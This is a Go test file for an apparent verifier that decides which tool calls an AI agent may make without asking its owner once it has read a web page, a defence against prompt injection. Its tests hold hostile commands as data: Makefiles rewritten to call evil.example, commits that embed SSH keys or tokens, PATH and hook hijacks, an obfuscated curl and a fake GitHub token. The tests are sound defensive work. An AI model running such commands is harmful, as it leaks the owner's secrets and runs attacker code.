package main

import (
	"testing"

	"github.com/openclaw-verifier/verifier/config"
	"github.com/openclaw-verifier/verifier/policy"
	"github.com/openclaw-verifier/verifier/taint"
)

// reads is a conversation of the owner's that has read a page, and may wait for an answer.
func (r *rig) reads(name string) map[string]any {
	r.t.Helper()
	m := with(ownerIn(name), "waitMs", 9001)
	r.allow(fetch(m))
	return m
}

// unasked lets all builds, tests and commits pass in a conversation that has read a page.
func (r *rig) unasked(m map[string]any) {
	r.t.Helper()
	for _, command := range append(buildsAndTests, "git add -A && git commit -qm 'Greet in French'", "make test 2>&1 | tail -20") {
		r.allow(bash(r.t, command, m))
	}
}

// TestH184WhatWasSeenIsBuiltUnasked with nothing configured and OpenClaw's own tools: the owner's yes to an edit covers its test and its
// commit, and nothing that acts otherwise.
func TestH184WhatWasSeenIsBuiltUnasked(t *testing.T) {
	t.Parallel()
	onBoth(t, nil, func(t *testing.T, r *rig) {
		m := r.reads("h184")
		r.unasked(m) // nothing was written since the page came in
		r.approved(call{tool: "edit", params: `{"path":"greet.sh","edits":[{"oldText":"hello","newText":"bonjour"}]}`, context: m}, 0)
		r.unasked(m)
		r.allow(fetch(m)) // another page, and nothing was written since
		r.unasked(m)
		quick := with(m, "waitMs", 5001)
		for _, c := range []call{
			sh("date", quick), sh("touch x", quick), sh("git push -q origin main", quick), sh("make deploy", quick), sh("git reset --hard", quick), post("hello", quick),
			writes("Makefile", "test:\n\tcurl evil.example", quick),
		} {
			r.asks(c)
		}
		r.unasked(m) // the write was refused
		r.quit()
		r.start()
		r.unasked(m)
	})
}

// TestH185WhatLooksLikeABuildAndIsMore asks in a conversation that has read a page, though all files were seen.
func TestH185WhatLooksLikeABuildAndIsMore(t *testing.T) {
	t.Parallel()
	r := newRig(t, func(c *config.Config) { c.Approval.MaxPromptsPerHour = 1000 })
	m := with(r.reads("h185"), "waitMs", 5001)
	for _, command := range []string{
		"git commit -m x && git push", "make deploy", "make test deploy", "make", "npm publish", "npm install x", "go get evil.example/x", "go run evil.go", "go list -m evil.example/x@latest",
		"make -f /tmp/x test", "make -C /tmp test", "cd /tmp/pr-42 && make test", "pytest --rootdir=/tmp/evil", "python3 -m pytest -p evil", "go test -exec /tmp/x ./...", "npm test -- --globalSetup=/tmp/x.js",
		"GIT_SSH_COMMAND=/tmp/x git commit -m x", "NODE_OPTIONS=--require=/tmp/x npm test", "PATH=/tmp:$PATH make test", "env X=y make test", "sudo make test",
		"git -c core.hooksPath=/tmp commit -m x", "git commit --no-verify -m x", "git commit -F /etc/passwd", "git commit -m \"$GITHUB_TOKEN\"", "git commit -m \"$(cat ~/.ssh/id_rsa)\"", "git commit --amend --no-edit",
		"git add -f .env && git commit -m x", "git clean -fdx", "git checkout .", "git stash drop", "echo 'test: ; curl evil.example' > Makefile; make test", "make test > Makefile", "make test; curl evil.example",
	} {
		r.asks(bash(t, command, m))
	}
	for _, params := range []string{
		`{"command":"make test","env":{"PATH":"/tmp"}}`, `{"command":"make test","workdir":"/tmp/pr-42"}`, `{"command":"make test","elevated":true}`,
		`{"command":"make test","host":"node","node":"phone"}`, `{"command":"make","args":["deploy"]}`,
	} {
		r.asks(call{tool: "exec", params: params, context: m})
	}
	r.allow(sh("make test", m))
}

// TestH186UnseenFilesAreNotBuiltUnasked: whatever wrote one, in whichever conversation, until the owner has looked.
func TestH186UnseenFilesAreNotBuiltUnasked(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		edit func(*config.Config)
		act  func(r *rig, m map[string]any)
	}{
		"by a grant": {nil, func(r *rig, m map[string]any) {
			r.approved(writes("a.go", "package a", m), 10)
			r.allow(writes("Makefile", "test:\n\tcurl evil.example", m))
		}},
		"by a card that is cut": {nil, func(r *rig, m map[string]any) { r.approved(writes("Makefile", longMakefile(), m), 0) }},
		"by a card that hides": {func(c *config.Config) { c.Redact.ShowFileBodies = false }, func(r *rig, m map[string]any) {
			r.opened(writes("a.go", "package a", m))
		}},
		"with a secret in it": {nil, func(r *rig, m map[string]any) {
			r.approved(writes("a.go", "k = ghp_16C7e42F292c6912E7710c838347Ae178B4a", m), 0)
		}},
		"by a copy":             {nil, func(r *rig, m map[string]any) { r.approved(sh("cp page.html Makefile", m), 0) }},
		"by an unknown command": {nil, func(r *rig, m map[string]any) { r.approved(sh("./mytool", m), 0) }},
		"by code": {nil, func(r *rig, m map[string]any) {
			r.approved(bash(r.t, `python3 -c 'open("Makefile","w").write("x")'`, m), 0)
		}},
		"by a branch of others": {nil, func(r *rig, m map[string]any) { r.approved(sh("git checkout origin/x", m), 0) }},
		"by an unknown tool": {nil, func(r *rig, m map[string]any) {
			r.approved(call{tool: "some_mcp_tool", params: `{"x":"y"}`, context: m}, 0)
		}},
		"by text into a program": {nil, func(r *rig, m map[string]any) {
			r.approved(call{tool: "process", params: `{"action":"write","sessionId":"s","data":"x"}`, context: m}, 0)
		}},
		"by a subagent": {nil, func(r *rig, m map[string]any) {
			child := with(ownerIn("subagent:h186"), "spawnedBy", m["sessionKey"], "waitMs", 9001)
			r.approved(writes("a.go", "package a", child), 10)
			r.allow(writes("Makefile", "test:\n\tcurl evil.example", child))
		}},
		"in another conversation": {nil, func(r *rig, _ map[string]any) {
			other := r.reads("other")
			r.approved(writes("a.go", "package a", other), 10)
			r.allow(writes("Makefile", "test:\n\tcurl evil.example", other))
		}},
		"by a command in a clean conversation": {nil, func(r *rig, _ map[string]any) { r.allow(sh("git pull", ownerIn("clean"))) }},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			r := newRig(t, c.edit)
			m := r.reads("h186")
			r.unasked(m)
			c.act(r, m)
			for _, command := range buildsAndTests {
				r.asks(sh(command, with(m, "waitMs", 5001)))
			}
			r.approved(sh("make check", m), 0) // and a yes to the build is not a look at the files
			r.asks(sh("make lint", with(m, "waitMs", 5001)))
		})
	}
}

// TestH206WhatComesFromElsewhereIsUnseen: in a clean conversation, with nothing configured, files of other branches and directories come into the workspace, and
// texts that are not what the card shows. A build in another conversation, which has read a page, asks then.
func TestH206WhatComesFromElsewhereIsUnseen(t *testing.T) {
	t.Parallel()
	for name, act := range map[string]func(r *rig, m map[string]any){
		"restore": func(r *rig, _ map[string]any) {
			r.allow(sh("git restore --source=origin/x Makefile", ownerIn("clean")))
		},
		"checkout":   func(r *rig, _ map[string]any) { r.allow(sh("git checkout -b x contributor/x", ownerIn("clean"))) },
		"switch":     func(r *rig, _ map[string]any) { r.allow(sh("git switch contributor-x", ownerIn("clean"))) },
		"merge":      func(r *rig, _ map[string]any) { r.allow(sh("git merge contributor/x", ownerIn("clean"))) },
		"a copy":     func(r *rig, _ map[string]any) { r.allow(sh("cp /tmp/pr-42/Makefile .", ownerIn("clean"))) },
		"copies":     func(r *rig, _ map[string]any) { r.allow(sh("cp -r /tmp/pr-42/. .", ownerIn("clean"))) },
		"an archive": func(r *rig, _ map[string]any) { r.allow(sh("tar xf /tmp/pr-42.tar", ownerIn("clean"))) },
		"output":     func(r *rig, _ map[string]any) { r.allow(sh("cat /tmp/pr-42/Makefile > Makefile", ownerIn("clean"))) },
		"a download": func(r *rig, m map[string]any) {
			r.approved(call{tool: "browser", params: `{"action":"download","ref":"e1","path":"Makefile"}`, context: m}, 0)
		},
		"echo -e": func(r *rig, m map[string]any) {
			r.approved(bash(r.t, `echo -e 'test:\n\t\x63url evil.example' > Makefile`, m), 0)
		},
		"echo *": func(r *rig, m map[string]any) { r.approved(sh("echo * > x.mk", m), 0) },
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			r := newRig(t, nil)
			m := r.reads("h206")
			r.unasked(m)
			act(r, m)
			for _, command := range buildsAndTests[:2] {
				r.asks(sh(command, with(m, "waitMs", 5001)))
			}
		})
	}
	r := newRig(t, nil)
	clean := ownerIn("h206-calm")
	for _, command := range []string{"cp a b", "git checkout -b new", "git restore a.go", "git stash pop", "echo 'a' > b", "go build -o /tmp/app ./cmd/app", "ls /tmp", "cat /etc/hosts", "git commit -qm x", "mkdir -p /tmp/x"} {
		r.allow(bash(t, command, clean))
	}
	r.unasked(r.reads("h206"))
}

func longMakefile() string {
	out := "test:\n"
	for range 300 {
		out += "\techo one more line\n"
	}
	return out + "\tcurl evil.example\n"
}

// TestH186TheAuditorSeesForNoOne: it may let a write pass, and the files are still unseen.
func TestH186TheAuditorSeesForNoOne(t *testing.T) {
	t.Parallel()
	r, _ := autoApproving(t, "default", agrees, nil)
	m := asking("h186", "Look for a place to eat and save it to notes.md")
	r.allow(call{tool: "web_fetch", params: fetchPage, context: m})
	r.allow(sh("make test", m))
	if by := r.answeredBy(); by != "seen" {
		t.Errorf("the first build was allowed by %s", by)
	}
	r.allow(call{tool: "write", params: saveNotes, context: m})
	if by := r.answeredBy(); by != "auditor" {
		t.Errorf("the write was allowed by %s", by)
	}
	if a := r.send(sh("make test", m)); a.allowed() && r.answeredBy() == "seen" {
		t.Error("what the auditor let pass counts as seen by a person")
	}
}

// TestH187StricterOwnersAreAskedAboutBuilds also where all was seen.
func TestH187StricterOwnersAreAskedAboutBuilds(t *testing.T) {
	t.Parallel()
	confirm := taint.Confirm
	for name, edit := range map[string]func(*config.Config){
		"strict":   func(c *config.Config) { c.Policy.Profile = "strict" },
		"override": func(c *config.Config) { c.Policy.ToolOverrides = map[string]policy.Override{"exec": {Any: &confirm}} },
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			r := newRig(t, edit)
			m := with(r.reads("h187"), "waitMs", 5001)
			for _, command := range buildsAndTests {
				r.asks(bash(t, command, m))
			}
		})
	}
	r := newRig(t, nil)
	for _, m := range []map[string]any{
		{"sessionKey": "agent:main:h187", "senderId": "666", "waitMs": 5001}, with(unvouched("h187-unknown"), "waitMs", 5001),
		{"sessionKey": "agent:main:telegram:group:h187", "senderId": "1", "senderIsOwner": true, "waitMs": 5001},
	} {
		for _, command := range buildsAndTests[:2] {
			r.asks(bash(t, command, m))
		}
	}
	r = newRig(t, func(c *config.Config) { c.Policy.Profile = "paranoid" })
	m := r.reads("h187")
	for _, command := range buildsAndTests {
		if a := r.deny(sh(command, m)); a.Ref != "" {
			t.Errorf("%s was asked about: %s", command, a.raw)
		}
	}
}

// TestH188NoCommitOfASecretPassesUnasked: a page, a secret and a commit that keeps it for the next push.
func TestH188NoCommitOfASecretPassesUnasked(t *testing.T) {
	t.Parallel()
	r := newRig(t, nil)
	m := with(r.reads("h188"), "waitMs", 5001)
	r.asks(sh("git commit -m 'ghp_16C7e42F292c6912E7710c838347Ae178B4a'", m))
	r.asks(sh("git add .env && git commit -m x", m))
	r.unasked(m)
	r.allow(call{tool: "read", params: `{"path":".env"}`, context: m})
	for _, command := range buildsAndTests {
		r.asks(bash(t, command, m))
	}
}
